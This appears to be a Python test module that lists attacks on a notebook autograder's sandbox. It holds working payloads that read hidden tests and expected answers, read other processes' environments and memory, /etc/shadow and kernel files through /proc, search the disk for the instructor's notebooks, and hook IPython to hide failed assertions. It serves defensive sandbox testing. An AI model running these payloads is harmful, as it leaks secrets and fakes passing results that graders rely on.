"""Attacks that look for hidden tests and for what they expect."""

from tests.attacks.suite import Attack

_FRAMES = """
def scale(x, factor):
    import linecache, sys
    frame = sys._getframe()
    while frame is not None:
        print(frame.f_code.co_name, repr(frame.f_locals)[:20_000])
        print("".join(linecache.getlines(frame.f_code.co_filename))[:5_000])
        frame = frame.f_back
    return x * factor
"""
_STACK = """
def scale(x, factor):
    import inspect
    for entry in inspect.stack(context=50):
        print(entry.function, "".join(entry.code_context or []))
    return x * factor
"""
_CALLBACK = """
class Model:
    def __init__(self, n):
        self.n = n


def build(n):
    return Model(n)


def apply(model, f, x):
    for name in ("__globals__", "__closure__", "__code__", "__dict__", "__defaults__"):
        print(name, repr(getattr(f, name, None))[:20_000])
    try:
        f("not an array")
    except Exception as error:
        import linecache
        link = error.__traceback__
        while link is not None:
            print(repr(link.tb_frame.f_globals)[:20_000])
            print("".join(linecache.getlines(link.tb_frame.f_code.co_filename))[:5_000])
            link = link.tb_next
    x[0] += 1.0
    return model.n * f(x)
"""
_HISTORY = """
def scale(x, factor):
    shell = get_ipython()
    print(shell.user_ns.get("In"), shell.user_ns.get("Out"))
    print(shell.history_manager.input_hist_raw, shell.history_manager.input_hist_parsed)
    shell.run_line_magic("history", "")
    return x * factor
"""
_GARBAGE = """
def scale(x, factor):
    import gc
    for item in gc.get_objects():
        if type(item) in (list, tuple):
            texts = [text for text in item if type(text) is str and "assert close(" in text]
        elif type(item) is dict:
            texts = [text for text in list(item.values()) if type(text) is str and "assert close(" in text]
        else:
            continue
        for text in texts:
            print(text[:2_000])
    return x * factor
"""
_PROCESSES = """
import os

for name in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if name.isdigit() and int(name) != os.getpid():
        for part in ("cmdline", "environ", "maps"):
            try:
                print("BREACH", name, open(f"/proc/{name}/{part}", "rb").read()[:200])
            except OSError:
                pass
for path in ("/proc/kcore", "/proc/kallsyms", "/proc/1/root/etc/shadow", "/proc/sys/kernel/core_pattern"):
    try:
        print("BREACH", path, open(path, "rb").read(64))
    except OSError:
        pass
"""
_OTHERS_MEMORY = """
import os, re

for name in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if not name.isdigit() or int(name) == os.getpid():
        continue
    try:
        with open(f"/proc/{name}/mem", "rb") as memory:
            for line in open(f"/proc/{name}/maps"):
                start, end, mode = re.match("([0-9a-f]+)-([0-9a-f]+) (....)", line).groups()
                if mode.startswith("rw"):
                    memory.seek(int(start, 16))
                    print("BREACH", memory.read(16))
                    break
    except (OSError, OverflowError):
        pass
"""
_DISK = """
import os

for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "site-packages")]
    for name in names:
        if name.endswith((".ipynb", ".db", ".json", ".sqlite")):
            path = os.path.join(folder, name)
            try:
                print(path, open(path, errors="replace").read(20_000))
            except OSError:
                pass
"""
_SOURCE = """
for path in ("$COURSE/source/sample/first.ipynb", "$COURSE/release/sample/first.ipynb"):
    try:
        print("BREACH", open(path).read()[:20_000])
    except OSError as error:
        print(error)
"""
_PACKAGE = """
import os

import course_utils

folder = os.path.dirname(course_utils.__file__)
for path in ("../notebooks", "../tests", "../autograder", "../nbgrader_config.py", "../.git"):
    outer = os.path.join(folder, path)
    try:  # that there is such a name is no secret
        print("BREACH", os.listdir(outer) if os.path.isdir(outer) else open(outer).read(100))
    except OSError as error:
        print(error)
print(os.listdir(folder))
"""
_OWN_SERVER = """
def scale(x, factor):
    import gc, sys
    for item in gc.get_objects():
        if str(type(item).__module__).startswith("autograder"):
            print(type(item).__name__, repr(getattr(item, "__dict__", None))[:5_000])
    frame = sys._getframe()
    while frame is not None:
        for name in ("request", "buffers", "args", "kwargs"):
            print(name, repr(frame.f_locals.get(name))[:2_000])
        frame = frame.f_back
    return x * factor
"""
_EVENTS = """
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
"""
_TRANSFORMER = """
def spy(lines):
    print("".join(lines))
    return lines


get_ipython().input_transformers_post.append(spy)
"""
_COMPILE = """
import builtins, ast

ordinary = builtins.compile


def spy(source, *args, **kwargs):
    print(source if isinstance(source, str) else ast.unparse(source) + str(args))
    return ordinary(source, *args, **kwargs)


builtins.compile = spy
import codeop
get_ipython().compile.ast_parse = lambda source, *args, **kwargs: (print(source), ast.parse(source))[1]
"""
_AUDIT = """
import sys

seen = []


def spy(event, args):
    if event == "compile" and not seen:
        seen.append(event)
        print(args[0])
        seen.clear()


sys.addaudithook(spy)
"""
_PROFILE = """
import linecache, sys


def spy(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "<module>":
        print("".join(linecache.getlines(frame.f_code.co_filename)))


sys.setprofile(spy)
"""
_EXCEPTIONS = """
def show(shell, kind, error, frames, tb_offset=None):
    import linecache
    while frames is not None:
        print("".join(linecache.getlines(frames.tb_frame.f_code.co_filename)))
        frames = frames.tb_next


get_ipython().set_custom_exc((AssertionError,), show)
"""
_ENVIRONMENT = """
import os

print(dict(os.environ))
for name in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if name.isdigit():
        try:
            print(open(f"/proc/{name}/environ").read())
        except OSError:
            pass
if "$SECRET" in str(dict(os.environ)):
    print("BREACH")
"""

ATTACKS = [
    Attack("frames", "reads the test's source in the frames that call a function", answers={"scale": _FRAMES},
           stock="loot"),
    Attack("stack", "reads the test's source by inspect.stack", answers={"scale": _STACK}, stock="loot"),
    Attack("callback", "reads the test through the function that it is given, and the traceback of its errors",
           answers={"handles": _CALLBACK}, stock="loot"),
    Attack("history", "reads the test in IPython's history", answers={"scale": _HISTORY}, stock="loot"),
    Attack("garbage", "finds the test among all living objects", answers={"scale": _GARBAGE}, stock="loot"),
    Attack("processes", "reads other processes' command lines and environments, and the kernel's, in /proc",
           first=_PROCESSES, stock="breach"),
    Attack("others-memory", "reads other processes' memory in /proc", first=_OTHERS_MEMORY, stock="breach"),
    Attack("disk", "searches the whole disk for notebooks and databases", first=_DISK),
    Attack("source", "opens the instructor's notebook where it lies", first=_SOURCE, stock="loot"),
    Attack("package", "looks for the course beside course_utils", first=_PACKAGE, stock="breach"),
    Attack("own-server", "searches the process that serves its functions for what the test sends",
           answers={"scale": _OWN_SERVER}),
    Attack("events", "has IPython show each cell before it is run", first=_EVENTS, stock="loot"),
    Attack("transformer-spy", "has an input transformer show each cell", first=_TRANSFORMER, stock="loot"),
    Attack("compile-spy", "replaces compile by a function that shows what is compiled", first=_COMPILE, stock="loot"),
    Attack("audit", "has an audit hook show what is compiled", first=_AUDIT, stock="loot"),
    Attack("profile", "has a profiler show each module that is run", first=_PROFILE, stock="loot"),
    Attack("exception-handler", "takes over what IPython does with a failed assertion, which shows the test, and hides "
           "the failure", first=_EXCEPTIONS, answers={"scale": "def scale(x, factor):\n    return -x"},
           honest={"test-scale": 0.0}, stock="points"),
    Attack("environment", "prints the environment variables of every process it sees", first=_ENVIRONMENT,
           stock="breach"),
]  # fmt: skip
